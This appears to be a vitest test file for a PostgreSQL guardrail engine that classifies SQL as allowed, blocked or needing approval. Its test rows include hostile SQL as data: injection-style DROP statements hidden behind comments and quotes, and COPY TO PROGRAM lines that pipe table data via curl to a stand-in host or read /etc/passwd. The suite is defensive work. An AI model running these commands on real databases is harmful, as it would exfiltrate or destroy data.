import { beforeAll, describe, expect, it } from 'vitest';
import { evaluate, initPolicyEngine } from './policy-engine.js';
import { parsePolicyDocument } from './policy-document.js';
import { contractPolicy } from './test-fixtures.js';

const doc = contractPolicy();
const A = 'allow';
const B = 'block';
const R = 'require_approval';
const DDL = 'no-destructive-ddl';
const KILL = 'no-session-killing';
const BULK = 'bulk-writes';
const DYN = 'dynamicSql';
const LEX = 'lexing';
const PARSE = 'parse-error';

beforeAll(async () => {
  await initPolicyEngine();
});

// [name, sql, action, rule] — the tricky rows first
const rows: [string, string, string, string | null][] = [
  // keywords hidden in literals, comments, identifiers
  ['DROP inside a string literal', "SELECT 'DROP TABLE users'", A, null],
  ['DROP inside a dollar-quoted string', 'SELECT $$DROP TABLE users$$', A, null],
  ['DROP inside a tagged dollar quote', 'SELECT $x$ DROP TABLE users; $x$', A, null],
  ['DROP inside an E string with escaped quote', "SELECT E'it\\'s; DROP TABLE users; --'", A, null],
  ['DROP inside a line comment', 'SELECT 1 -- ; DROP TABLE users', A, null],
  ['DROP inside a block comment', 'SELECT 1 /* ; DROP TABLE users; */', A, null],
  ['DROP inside a nested block comment', 'SELECT 1 /* outer /* inner */ ; DROP TABLE users; */', A, null],
  ['DROP after a nested comment closes', 'SELECT 1 /* a /* b */ c */; DROP TABLE users', B, DDL],
  ['DROP as a quoted identifier', 'SELECT "DROP TABLE users" FROM t', A, null],
  ['column named drop', 'SELECT "drop" FROM t', A, null],
  ['standard string: backslash is not an escape', "SELECT 'a\\'; DROP TABLE users; --'", B, DDL],
  ['doubled quote inside a string', "SELECT 'it''s'; DROP TABLE users", B, DDL],
  ['comment hides the start of a statement', '/* hi */ DrOp /* x */ TaBlE users', B, DDL],
  ['mixed case drop', 'dRoP tAbLe users', B, DDL],
  ['newline separated drop', 'DROP\nTABLE\n\tusers', B, DDL],
  ['pg_terminate_backend in a string', "SELECT 'pg_terminate_backend(1)'", A, null],
  ['pg_terminate_backend in a comment', 'SELECT 1 /* pg_terminate_backend(1) */', A, null],
  ['function quoted', 'SELECT "pg_terminate_backend"(42)', B, KILL],
  ['function schema-qualified', 'SELECT pg_catalog.pg_terminate_backend(42)', B, KILL],
  ['function in FROM', 'SELECT * FROM pg_cancel_backend(42)', B, KILL],
  ['function in WHERE subquery', 'SELECT 1 FROM t WHERE EXISTS (SELECT pg_terminate_backend(pid) FROM pg_stat_activity)', B, KILL],
  ['function upper case', 'SELECT PG_TERMINATE_BACKEND(42)', B, KILL],
  ['a function with a similar name', 'SELECT pg_terminate_backend_log(42)', A, null],
  // multi-statement
  ['second statement drops', 'SELECT 1; DROP TABLE users', B, DDL],
  ['third statement truncates', 'SELECT 1; SELECT 2; TRUNCATE users', B, DDL],
  ['block beats approval', 'DELETE FROM t; DROP TABLE users', B, DDL],
  ['approval beats allow', 'SELECT 1; DELETE FROM t', R, BULK],
  ['empty statements between', ';;SELECT 1;;', A, null],
  ['transaction wrapper', 'BEGIN; UPDATE accounts SET x = 1; COMMIT', R, BULK],
  // CTEs
  ['data-modifying CTE delete', 'WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', R, BULK],
  ['data-modifying CTE bounded delete', 'WITH d AS (DELETE FROM t WHERE id = 3 RETURNING *) SELECT * FROM d', A, null],
  ['nested CTE update', 'WITH a AS (WITH b AS (UPDATE t SET x = 1 RETURNING *) SELECT * FROM b) SELECT * FROM a', R, BULK],
  ['CTE in an INSERT', 'WITH d AS (DELETE FROM old RETURNING *) INSERT INTO archive SELECT id, created FROM d', R, BULK],
  ['CTE calls a blocked function', 'WITH k AS (SELECT pg_terminate_backend(pid) FROM pg_stat_activity) SELECT * FROM k', B, KILL],
  ['read-only CTE', 'WITH x AS (SELECT 1) SELECT * FROM x', A, null],
  // EXPLAIN
  ['EXPLAIN ANALYZE executes', 'EXPLAIN ANALYZE DELETE FROM t', R, BULK],
  ['EXPLAIN (ANALYZE) executes', 'EXPLAIN (ANALYZE) DELETE FROM t', R, BULK],
  ['EXPLAIN (ANALYZE true) executes', 'EXPLAIN (ANALYZE true, COSTS off) DELETE FROM t', R, BULK],
  ['EXPLAIN (ANALYZE 1) executes', 'EXPLAIN (ANALYZE 1) DELETE FROM t', R, BULK],
  ["EXPLAIN (ANALYZE 'on') executes", "EXPLAIN (ANALYZE 'on') DELETE FROM t", R, BULK],
  ['EXPLAIN (ANALYZE off) does not', 'EXPLAIN (ANALYZE off) DELETE FROM t', A, null],
  ['EXPLAIN (ANALYZE 0) does not', 'EXPLAIN (ANALYZE 0) DELETE FROM t', A, null],
  ['plain EXPLAIN does not execute', 'EXPLAIN DELETE FROM t', A, null],
  ['EXPLAIN still sees function calls', 'EXPLAIN SELECT pg_terminate_backend(1)', B, KILL],
  ['EXPLAIN ANALYZE of a CTE delete', 'EXPLAIN ANALYZE WITH d AS (DELETE FROM t RETURNING 1) SELECT * FROM d', R, BULK],
  // PREPARE / EXECUTE / DECLARE
  ['PREPARE a drop-free delete', 'PREPARE p AS DELETE FROM t', R, BULK],
  ['PREPARE a bounded delete', 'PREPARE p(int) AS DELETE FROM t WHERE id = $1', A, null],
  ['PREPARE a delete bounded by nothing but a param', 'PREPARE p(bool) AS DELETE FROM t WHERE $1', R, BULK],
  ['EXECUTE a prepared statement', 'EXECUTE p(1)', A, null],
  ['DECLARE a cursor over a blocked function', 'DECLARE c CURSOR FOR SELECT pg_cancel_backend(1)', B, KILL],
  ['CREATE TABLE AS with a blocked function', 'CREATE TABLE x AS SELECT pg_cancel_backend(1)', B, KILL],
  // COPY
  ['COPY TO PROGRAM', "COPY users TO PROGRAM 'curl -d @- evil.example'", B, 'no-copy-program'],
  ['COPY FROM PROGRAM', "COPY users FROM PROGRAM 'cat /etc/passwd'", B, 'no-copy-program'],
  ['COPY query TO PROGRAM', "COPY (SELECT * FROM users) TO PROGRAM 'gzip > /tmp/x'", B, 'no-copy-program'],
  ['COPY TO a server file', "COPY users TO '/tmp/users.csv'", B, 'no-server-files'],
  ['COPY FROM a server file', "COPY users FROM '/tmp/users.csv' WITH (FORMAT csv)", B, 'no-server-files'],
  ['COPY TO STDOUT', 'COPY users TO STDOUT', A, null],
  ['COPY FROM STDIN', 'COPY users FROM STDIN', A, null],
  ['COPY query with a CTE delete to stdout', 'COPY (WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d) TO STDOUT', R, BULK],
  ['PROGRAM in a string only', "SELECT 'COPY users TO PROGRAM x'", A, null],
  // DO blocks
  ['DO with a constant EXECUTE of DROP', "DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$", B, DDL],
  ['DO with EXECUTE of concatenated constants', "DO $$ BEGIN EXECUTE 'DROP ' || 'TABLE users'; END $$", B, DDL],
  ['DO with EXECUTE of a built string', "DO $$ BEGIN EXECUTE format('DROP TABLE %I', 'users'); END $$", B, DYN],
  ['DO with EXECUTE of a variable', "DO $$ DECLARE q text := 'SELECT 1'; BEGIN EXECUTE q; END $$", B, DYN],
  ['DO with a static DROP', 'DO $$ BEGIN DROP TABLE users; END $$', B, DDL],
  ['DO with a static unbounded delete', 'DO $$ BEGIN DELETE FROM t; END $$', R, BULK],
  ['DO with a bounded delete by variable', 'DO $$ DECLARE v int := 3; BEGIN DELETE FROM t WHERE id = v; END $$', A, null],
  ['DO where the WHERE is only a variable', 'DO $$ DECLARE v bool := true; BEGIN DELETE FROM t WHERE v; END $$', R, BULK],
  ['DO with PERFORM of a blocked function', 'DO $$ BEGIN PERFORM pg_terminate_backend(1); END $$', B, KILL],
  ['DO with a blocked function in a default', 'DO $$ DECLARE x bool := pg_terminate_backend(1); BEGIN END $$', B, KILL],
  ['DO with a blocked function in an assignment', 'DO $$ DECLARE x bool; BEGIN x := pg_cancel_backend(1); END $$', B, KILL],
  ['DO with a blocked function in IF', 'DO $$ BEGIN IF pg_cancel_backend(1) THEN NULL; END IF; END $$', B, KILL],
  ['DO with FOR IN EXECUTE constant', "DO $$ DECLARE r record; BEGIN FOR r IN EXECUTE 'TRUNCATE t' LOOP END LOOP; END $$", B, DDL],
  ['DO with OPEN FOR EXECUTE of a variable', 'DO $$ DECLARE c refcursor; q text; BEGIN OPEN c FOR EXECUTE q; END $$', B, DYN],
  ['DO with nested DO in EXECUTE', "DO $a$ BEGIN EXECUTE 'DO $b$ BEGIN EXECUTE ''DROP TABLE users''; END $b$'; END $a$", B, DDL],
  ['DO in a single-quoted body', "DO 'BEGIN EXECUTE ''DROP TABLE users''; END'", B, DDL],
  ['DO with explicit language plpgsql', "DO LANGUAGE plpgsql $$ BEGIN EXECUTE 'TRUNCATE t'; END $$", B, DDL],
  ['DO in another language', "DO LANGUAGE plpython3u $$ plpy.execute('DROP TABLE users') $$", B, DYN],
  ['harmless DO', "DO $$ BEGIN RAISE NOTICE 'DROP TABLE users'; END $$", A, null],
  ['DO with a comment mentioning DROP', 'DO $$ BEGIN -- DROP TABLE users\n NULL; END $$', A, null],
  ['DO with a plpgsql syntax error', 'DO $$ BEGIN EXECUT; END $$', B, PARSE],
  ['DO in a multi-statement', "SELECT 1; DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$", B, DDL],
  ['DO with EXECUTE USING', "DO $$ BEGIN EXECUTE 'DELETE FROM t WHERE id = $1' USING 5; END $$", A, null],
  ['DO with EXECUTE of an unbounded delete', "DO $$ BEGIN EXECUTE 'DELETE FROM t'; END $$", R, BULK],
  // routine bodies: what CREATE FUNCTION / PROCEDURE stores runs on every call
  ['SQL function whose body drops', "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'DROP TABLE users'", B, DDL],
  ['SQL function body in dollar quotes, lower-case', 'create or replace function f() returns void language sql as $$ truncate users $$', B, DDL],
  ['SQL function body calls a blocked function', "CREATE FUNCTION f() RETURNS bool LANGUAGE sql AS 'SELECT pg_terminate_backend(1)'", B, KILL],
  ['SQL function with an unbounded delete', "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'DELETE FROM t'", R, BULK],
  ['SQL function deletes by parameter name', "CREATE FUNCTION f(p_id int) RETURNS void LANGUAGE sql AS 'DELETE FROM t WHERE id = p_id'", A, null],
  ['SQL function deletes by positional parameter', "CREATE FUNCTION f(int) RETURNS void LANGUAGE sql AS 'DELETE FROM t WHERE id = $1'", A, null],
  ['SQL function whose WHERE is only a parameter', "CREATE FUNCTION f(p_all bool) RETURNS void LANGUAGE sql AS 'DELETE FROM t WHERE p_all'", R, BULK],
  ['SQL function with two statements, the second drops', "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'SELECT 1; DROP TABLE users'", B, DDL],
  ['harmless SQL function', "CREATE FUNCTION f(t text) RETURNS text LANGUAGE sql IMMUTABLE AS $$ SELECT upper(t) || '!' $$", A, null],
  ['SQL function mentioning DROP in a string', "CREATE FUNCTION f() RETURNS text LANGUAGE sql AS $$ SELECT 'DROP TABLE users' $$", A, null],
  ['BEGIN ATOMIC body deletes every row', 'CREATE PROCEDURE p() LANGUAGE sql BEGIN ATOMIC DELETE FROM t; END', R, BULK],
  ['RETURN body calls a blocked function', 'CREATE FUNCTION f() RETURNS bool LANGUAGE sql RETURN pg_cancel_backend(1)', B, KILL],
  ['PL/pgSQL function drops', 'CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DROP TABLE users; END $$', B, DDL],
  ['PL/pgSQL procedure executes a constant', "CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'DR' || 'OP TABLE users'; END $$", B, DDL],
  ['PL/pgSQL function executes a built string', "CREATE FUNCTION f(n text) RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'DROP TABLE ' || n; END $$", B, DYN],
  ['PL/pgSQL trigger function deletes by NEW', 'CREATE FUNCTION t() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN DELETE FROM audit WHERE id = NEW.id; RETURN NEW; END $$', A, null],
  ['PL/pgSQL trigger function deletes all', 'CREATE FUNCTION t() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN DELETE FROM audit; RETURN NEW; END $$', R, BULK],
  ['PL/pgSQL function updates by OUT/IN parameters', 'CREATE FUNCTION f(a int, OUT b int) LANGUAGE plpgsql AS $$ BEGIN b := a; UPDATE t SET x = 1 WHERE id = a; END $$', A, null],
  ['PL/pgSQL named in quoted upper case (the parser would skip the body)', "CREATE FUNCTION f() RETURNS void LANGUAGE 'PLPGSQL' AS $$ BEGIN DROP TABLE users; END $$", B, DYN],
  ['PL/pgSQL function with an undeclared variable', 'CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN y := 1; RETURN 1; END $$', B, PARSE],
  ['function after a multibyte literal in a multi-statement', "SELECT 'héllo ✓'; CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN TRUNCATE t; RETURN 1; END $$", B, DDL],
  ['function created by a DO block', "DO $$ BEGIN EXECUTE 'CREATE FUNCTION f() RETURNS void LANGUAGE sql AS ''DROP TABLE users'''; END $$", B, DDL],
  ['function in another language', "CREATE FUNCTION f() RETURNS void LANGUAGE plpython3u AS $$ plpy.execute('DROP TABLE users') $$", B, DYN],
  ['function in C', "CREATE FUNCTION f() RETURNS int LANGUAGE c AS 'mylib', 'f'", B, DYN],
  ['function without a language', "CREATE FUNCTION f() RETURNS int AS 'SELECT 1'", B, DYN],
  // SQL in strings that functions run
  ['query_to_xml runs its argument', "SELECT query_to_xml('DELETE FROM t RETURNING 1', true, true, '')", R, BULK],
  ['query_to_xml of a harmless query', "SELECT query_to_xml('SELECT 1', true, true, '')", A, null],
  ['query_to_xml of a built query', "SELECT query_to_xml('SELECT ' || x, true, true, '') FROM t", B, DYN],
  ['dblink_exec runs its argument', "SELECT dblink_exec('dbname=x', 'DROP TABLE users')", B, DDL],
  ['dblink with a parameter', 'SELECT * FROM dblink($1, $2) AS t(a int)', B, DYN],
  ['ts_stat runs its argument', "SELECT * FROM ts_stat('SELECT pg_terminate_backend(1)')", B, KILL],
  // settings that would blind the parser
  ['standard_conforming_strings off', 'SET standard_conforming_strings = off', B, LEX],
  ["standard_conforming_strings 'off'", "SET standard_conforming_strings TO 'off'", B, LEX],
  ['standard_conforming_strings on', 'SET standard_conforming_strings = on', A, null],
  ['set_config of standard_conforming_strings', "SELECT set_config('standard_conforming_strings', 'off', false)", B, LEX],
  ['set_config of a computed name', 'SELECT set_config(name, setting, false) FROM t', B, DYN],
  ['set_config of search_path', "SELECT set_config('search_path', 'public', false)", A, null],
  ['client_encoding SJIS', "SET client_encoding = 'SJIS'", B, LEX],
  ['SET NAMES big5', "SET NAMES 'BIG5'", B, LEX],
  ['client_encoding UTF8', "SET client_encoding = 'UTF8'", A, null],
  ['ALTER ROLE sets scs off', 'ALTER ROLE app SET standard_conforming_strings = off', B, DDL],
  // lexing changes are refused whatever dynamicSql says: the server would read what follows them (the rest
  // of the text, a routine body, EXECUTE strings) before any ParameterStatus could say so, or never say so
  ["a function's SET clause", "CREATE FUNCTION f() RETURNS void LANGUAGE sql SET standard_conforming_strings = off AS $$ SELECT 1 $$", B, LEX],
  ["a procedure's SET clause of client_encoding", "CREATE PROCEDURE p() LANGUAGE sql SET client_encoding TO 'SJIS' AS $$ SELECT 1 $$", B, LEX],
  ['ALTER FUNCTION … SET (the DDL rule first)', 'ALTER FUNCTION f() SET standard_conforming_strings = off', B, DDL],
  ['SET LOCAL in a DO block', "DO $$ BEGIN SET LOCAL standard_conforming_strings = off; EXECUTE 'SELECT 1'; END $$", B, LEX],
  ['set_config in a PL/pgSQL body', "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN PERFORM set_config('standard_conforming_strings', 'off', true); END $$", B, LEX],
  ['set_config in SQL run by query_to_xml', "SELECT query_to_xml($q$SELECT set_config('standard_conforming_strings', 'off', true)$q$, true, true, '')", B, LEX],
  // source the server lexes when it runs it must read alike under either setting
  ['a plain string with a backslash in a SQL function body', "CREATE FUNCTION f() RETURNS text LANGUAGE sql AS $$ SELECT 'a\\b' $$", B, LEX],
  ['a plain string with a backslash in a DO body', "DO $$ BEGIN PERFORM 'a\\b'; END $$", B, LEX],
  ['a plain string with a backslash in an EXECUTE string', "DO $$ BEGIN EXECUTE $q$SELECT 'a\\b'$q$; END $$", B, LEX],
  ['a plain string with a backslash in SQL given to query_to_xml', "SELECT query_to_xml($q$SELECT 'a\\b'$q$, true, true, '')", B, LEX],
  ['E strings and dollar quotes in a DO body', "DO $$ BEGIN PERFORM E'a\\\\b', $x$c\\d$x$; EXECUTE $q$SELECT E'\\n'$q$; END $$", A, null],
  ['a plain string with a backslash at the top level (lexed with the text)', "SELECT 'a\\b'", A, null],
  ["a function's SET clause keeping scs on", "CREATE FUNCTION f() RETURNS int LANGUAGE sql SET standard_conforming_strings = on SET client_encoding = 'UTF8' AS $$ SELECT 1 $$", A, null],
  ["a function's SET clause FROM CURRENT", 'CREATE FUNCTION f() RETURNS int LANGUAGE sql SET standard_conforming_strings FROM CURRENT AS $$ SELECT 1 $$', A, null],
  // a write to pg_settings is set_config of each setting its WHERE names
  ['pg_settings UPDATE turns scs off', "UPDATE pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings'", B, LEX],
  ['pg_catalog.pg_settings UPDATE by IN, aliased', "UPDATE pg_catalog.pg_settings s SET setting = 'SJIS' WHERE s.name IN ('search_path', 'client_encoding')", B, LEX],
  ['pg_settings UPDATE in a CTE', "WITH x AS (UPDATE pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings' RETURNING 1) SELECT * FROM x", B, LEX],
  ['pg_settings UPDATE in a DO block', "DO $$ BEGIN UPDATE pg_settings SET setting = 'off' WHERE 'standard_conforming_strings' = name; END $$", B, LEX],
  ['pg_settings UPDATE in a SQL function', "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ UPDATE pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings' $$", B, LEX],
  ['pg_settings UPDATE of names a pattern picks', "UPDATE pg_settings SET setting = 'off' WHERE name LIKE 'standard%'", B, DYN],
  ['pg_settings UPDATE without WHERE', "UPDATE pg_settings SET setting = 'off'", B, DYN],
  ['pg_settings UPDATE with a computed value', "UPDATE pg_settings SET setting = lower('OFF') WHERE name = 'standard_conforming_strings'", B, LEX],
  ['pg_settings INSERT', "INSERT INTO pg_settings (name, setting) VALUES ('standard_conforming_strings', 'off')", B, DYN],
  ['pg_settings DELETE', "DELETE FROM pg_settings WHERE name = 'work_mem'", B, DYN],
  ['pg_settings UPDATE of search_path', "UPDATE pg_settings SET setting = 'public' WHERE name = 'search_path'", A, null],
  ['pg_settings UPDATE keeping scs on', "UPDATE pg_settings SET setting = 'on' WHERE name = 'standard_conforming_strings' OR name = 'search_path'", A, null],
  ['a table of our own called pg_settings in another schema', "UPDATE app.pg_settings SET setting = 'off' WHERE true", R, BULK],
  // set_config(name, …) FROM pg_settings WHERE name = '…' sets the settings named there
  ['set_config of the pg_settings row pg_dump picks', "SELECT set_config(name, 'view, foreign-table', false) FROM pg_settings WHERE name = 'restrict_nonsystem_relation_kind'", A, null],
  ['set_config of pg_settings rows including scs', "SELECT set_config(name, 'off', false) FROM pg_catalog.pg_settings WHERE name = ANY (ARRAY['search_path', 'standard_conforming_strings'])", B, LEX],
  ['set_config of pg_settings rows not pinned', "SELECT set_config(name, 'off', false) FROM pg_settings WHERE name <> 'search_path'", B, DYN],
  ['set_config of an outer row in a subquery', "SELECT (SELECT set_config(name, 'off', false)) FROM pg_settings WHERE name = 'search_path'", B, DYN],
  ['set_config of a column of a join', "SELECT set_config(s.name, 'off', false) FROM pg_settings s, t WHERE s.name = 'search_path'", B, DYN],
  // unbounded
  ['DELETE without WHERE', 'DELETE FROM t', R, BULK],
  ['UPDATE without WHERE', 'UPDATE t SET x = 1', R, BULK],
  ['DELETE WHERE true', 'DELETE FROM t WHERE true', R, BULK],
  ['DELETE WHERE 1=1', 'DELETE FROM t WHERE 1=1', R, BULK],
  ['DELETE WHERE 1 = 1 with comment', 'DELETE FROM t WHERE 1 /* x */ = 1', R, BULK],
  ["DELETE WHERE 'a' = 'a'", "DELETE FROM t WHERE 'a' = 'a'", R, BULK],
  ["DELETE WHERE 't'", "DELETE FROM t WHERE 't'", R, BULK],
  ["DELETE WHERE 't'::bool", "DELETE FROM t WHERE 't'::boolean", R, BULK],
  ['DELETE WHERE NOT false', 'DELETE FROM t WHERE NOT false', R, BULK],
  ['DELETE WHERE 2 > 1', 'DELETE FROM t WHERE 2 > 1', R, BULK],
  ['DELETE WHERE id = id', 'DELETE FROM t WHERE id = id', R, BULK],
  ['DELETE WHERE t.id >= t.id', 'DELETE FROM t WHERE t.id >= t.id', R, BULK],
  ['DELETE WHERE id = 5 OR 1 = 1', 'DELETE FROM t WHERE id = 5 OR 1 = 1', R, BULK],
  ['DELETE WHERE id = 5 OR true', 'DELETE FROM t WHERE id = 5 OR true', R, BULK],
  ['DELETE WHERE x IS NULL OR TRUE', 'DELETE FROM t WHERE (x IS NULL) OR TRUE', R, BULK],
  ['DELETE WHERE now() > a date', "DELETE FROM t WHERE now() > '2020-01-01'", R, BULK],
  ['DELETE WHERE uncorrelated EXISTS', 'DELETE FROM t WHERE EXISTS (SELECT 1 FROM other o WHERE o.flag)', R, BULK],
  ['DELETE WHERE 1 IN (1, 2)', 'DELETE FROM t WHERE 1 IN (1, 2)', R, BULK],
  ['DELETE WHERE true AND true', 'DELETE FROM t WHERE true AND 1 = 1', R, BULK],
  ['UPDATE WHERE 1=1 with alias', 'UPDATE accounts a SET balance = 0 WHERE 1 = 1', R, BULK],
  ['MERGE ON true with DELETE', 'MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE', R, BULK],
  ['MERGE ON a key with DELETE', 'MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE', A, null],
  ['MERGE NOT MATCHED BY SOURCE DELETE', 'MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE', R, BULK],
  ['DELETE WHERE id = 5', 'DELETE FROM t WHERE id = 5', A, null],
  ['DELETE WHERE 1 = 0', 'DELETE FROM t WHERE 1 = 0', A, null],
  ['DELETE WHERE false', 'DELETE FROM t WHERE false', A, null],
  ['DELETE WHERE id = 5 AND 1 = 1', 'DELETE FROM t WHERE id = 5 AND 1 = 1', A, null],
  ['DELETE WHERE id = 5 OR 1 = 2', 'DELETE FROM t WHERE id = 5 OR 1 = 2', A, null],
  ['DELETE WHERE id IN (1,2,3)', 'DELETE FROM t WHERE id IN (1, 2, 3)', A, null],
  ['DELETE WHERE id = 5 + 1', 'DELETE FROM t WHERE id = 5 + 1', A, null],
  ['DELETE WHERE id + 1 = id + 2', 'DELETE FROM t WHERE id + 1 = id + 2', A, null],
  ['DELETE WHERE id + 1 = id + 1', 'DELETE FROM t WHERE id + 1 = id + 1', R, BULK],
  ['DELETE WHERE correlated EXISTS', 'DELETE FROM t WHERE EXISTS (SELECT 1 FROM o WHERE o.tid = t.id)', A, null],
  ['DELETE WHERE CURRENT OF', 'DELETE FROM t WHERE CURRENT OF c', A, null],
  ['DELETE USING join', 'DELETE FROM t USING o WHERE t.oid = o.id', A, null],
  ['UPDATE with a key', "UPDATE users SET name = 'x' WHERE id = 7", A, null],
  ['UPDATE from pgbench', 'UPDATE pgbench_accounts SET abalance = abalance + -4242 WHERE aid = 91284', A, null],
  ['DELETE WHERE a param', 'DELETE FROM t WHERE id = $1', A, null],
  // statement kinds
  ['DROP TABLE', 'DROP TABLE users', B, DDL],
  ['DROP INDEX', 'DROP INDEX CONCURRENTLY idx', B, DDL],
  ['DROP SCHEMA', 'DROP SCHEMA s CASCADE', B, DDL],
  ['DROP DATABASE', 'DROP DATABASE prod', B, DDL],
  ['DROP ROLE', 'DROP ROLE bob', B, DDL],
  ['TRUNCATE', 'TRUNCATE users, orders RESTART IDENTITY', B, DDL],
  ['TRUNCATE TABLE ONLY', 'TRUNCATE TABLE ONLY users', B, DDL],
  ['ALTER TABLE', 'ALTER TABLE users ADD COLUMN x int', B, DDL],
  ['ALTER TABLE RENAME', 'ALTER TABLE users RENAME TO people', B, DDL],
  ['ALTER SYSTEM', "ALTER SYSTEM SET work_mem = '1GB'", B, DDL],
  ['GRANT', 'GRANT ALL ON users TO public', B, DDL],
  ['GRANT role', 'GRANT admin TO bob', B, DDL],
  ['REVOKE', 'REVOKE SELECT ON users FROM bob', B, DDL],
  ['CREATE ROLE', "CREATE ROLE eve LOGIN SUPERUSER PASSWORD 'x'", B, DDL],
  ['CREATE USER is a role', 'CREATE USER eve', B, DDL],
  ['ALTER ROLE', 'ALTER ROLE bob SUPERUSER', B, DDL],
  ['ALTER USER is a role', "ALTER USER bob WITH PASSWORD 'x'", B, DDL],
  ['CREATE TABLE is fine', 'CREATE TABLE x (id int)', A, null],
  ['CREATE INDEX is fine', 'CREATE INDEX ON users (email)', A, null],
  ['INSERT is fine', "INSERT INTO users (name) VALUES ('DROP TABLE users')", A, null],
  ['SELECT is fine', 'SELECT * FROM users WHERE id = 1', A, null],
  ['VACUUM is fine', 'VACUUM ANALYZE users', A, null],
  ['SHOW is fine', 'SHOW search_path', A, null],
  // tables
  ['secrets read needs approval', 'SELECT * FROM vault.secrets', R, 'secrets-need-approval'],
  ['secrets quoted', 'SELECT * FROM "vault"."secrets"', R, 'secrets-need-approval'],
  ['secrets unqualified (search_path)', 'SELECT * FROM secrets', R, 'secrets-need-approval'],
  ['secrets in another schema', 'SELECT * FROM public.secrets', A, null],
  ['secrets in a subquery', 'SELECT (SELECT count(*) FROM vault.secrets)', R, 'secrets-need-approval'],
  ['secrets joined', 'SELECT * FROM a JOIN vault.secrets s ON s.id = a.id', R, 'secrets-need-approval'],
  ['payroll insert blocked', "INSERT INTO hr.payroll VALUES (1, 'x')", B, 'payroll-is-read-only'],
  ['payroll quoted mixed case', 'UPDATE "HR"."Payroll" SET pay = 0 WHERE id = 1', B, 'payroll-is-read-only'],
  ['payroll read allowed', 'SELECT * FROM hr.payroll', A, null],
  ['payroll read by a delete of another table', 'DELETE FROM t WHERE id IN (SELECT id FROM hr.payroll)', A, null],
  ['payroll in a MERGE', 'MERGE INTO hr.payroll p USING x ON p.id = x.id WHEN MATCHED THEN UPDATE SET pay = x.pay', B, 'payroll-is-read-only'],
  // bad input
  ['syntax error', 'SELEC 1', B, PARSE],
  ['unterminated string', "SELECT 'abc", B, PARSE],
  ['unterminated comment', 'SELECT 1 /* abc', B, PARSE],
  ['trailing junk after a number', 'SELECT 123abc', B, PARSE],
  ['only a comment', '-- nothing here', A, null],
  ['empty text', '', A, null],
];

describe('guardrails: evaluate()', () => {
  it.each(rows)('%s', (_name, sql, action, rule) => {
    const d = evaluate(sql, doc);
    expect({ action: d.action, rule: d.rule }).toEqual({ action, rule });
    if (action === 'allow') expect(d.rule).toBeNull();
    else expect(d.reason.length).toBeGreaterThan(0);
  });

  it('has many rows', () => {
    expect(rows.length).toBeGreaterThanOrEqual(150);
  });
});

describe('guardrails: decision details', () => {
  it('names the statement kinds found, each once, in order', () => {
    expect(evaluate('SELECT 1; WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d; DROP TABLE x', doc).kinds)
      .toEqual(['SELECT', 'DELETE', 'DROP TABLE']);
  });

  it('uses the admin-written reason when the guardrail has one', () => {
    expect(evaluate("COPY t TO '/tmp/x'", doc).reason).toBe('server-side files are off limits');
  });

  it('explains a block without an admin reason', () => {
    expect(evaluate('DROP TABLE users', doc).reason).toBe('statement DROP TABLE is blocked by guardrail no-destructive-ddl');
    expect(evaluate('DELETE FROM t', doc).reason).toBe('DELETE without a WHERE that bounds the rows requires approval by guardrail bulk-writes');
    expect(evaluate('SELECT pg_cancel_backend(1)', doc).reason).toBe('call to pg_cancel_backend is blocked by guardrail no-session-killing');
  });

  it('refuses a lexing change by rule lexing even when dynamic SQL is allowed and no guardrail covers the statement', () => {
    const lax = contractPolicy({ dynamicSql: 'allow', guardrails: [] });
    for (const sql of [
      'SET standard_conforming_strings = off',
      "UPDATE pg_settings SET setting = 'SJIS' WHERE name = 'client_encoding'",
      'ALTER FUNCTION f() SET standard_conforming_strings = off',
      'ALTER SYSTEM SET standard_conforming_strings = off',
      "CREATE FUNCTION f() RETURNS void LANGUAGE sql SET standard_conforming_strings = off AS $$ SELECT 'a\\'' $$",
    ]) expect(evaluate(sql, lax), sql).toMatchObject({ action: 'block', rule: 'lexing' });
    // a route the analyser cannot see is left to the relay, which follows the server's reports
    expect(evaluate('SELECT set_config($1, $2, false)', lax)).toMatchObject({ action: 'allow' });
  });

  it('gives dynamic SQL the policy action (allow here) and keeps other rules', () => {
    const lax = contractPolicy({ dynamicSql: 'require_approval' });
    const d = evaluate("DO $$ BEGIN EXECUTE format('SELECT %s', 1); END $$", lax);
    expect(d).toMatchObject({ action: 'require_approval', rule: 'dynamicSql' });
    expect(evaluate("DO $$ BEGIN EXECUTE format('SELECT %s', 1); DROP TABLE t; END $$", lax)).toMatchObject({ action: 'block', rule: DDL });
  });

  it('a syntax error follows dynamicSql; the parser message is the reason', () => {
    const lax = contractPolicy({ dynamicSql: 'allow' });
    expect(evaluate('SELEC 1', lax)).toMatchObject({ action: 'allow', rule: null });
    expect(evaluate('SELEC 1', doc).reason).toMatch(/syntax error/);
  });

  it('ties go to the first matching guardrail', () => {
    const two = parsePolicyDocument({
      name: 't',
      guardrails: [
        { name: 'first', action: 'block', match: { statements: ['DROP'] } },
        { name: 'second', action: 'block', match: { statements: ['DROP TABLE'] } },
      ],
    });
    expect(evaluate('DROP TABLE x', two).rule).toBe('first');
  });

  it('specific statement kinds do not cover their siblings', () => {
    const only = parsePolicyDocument({ name: 't', guardrails: [{ name: 'tables', action: 'block', match: { statements: ['DROP TABLE'] } }] });
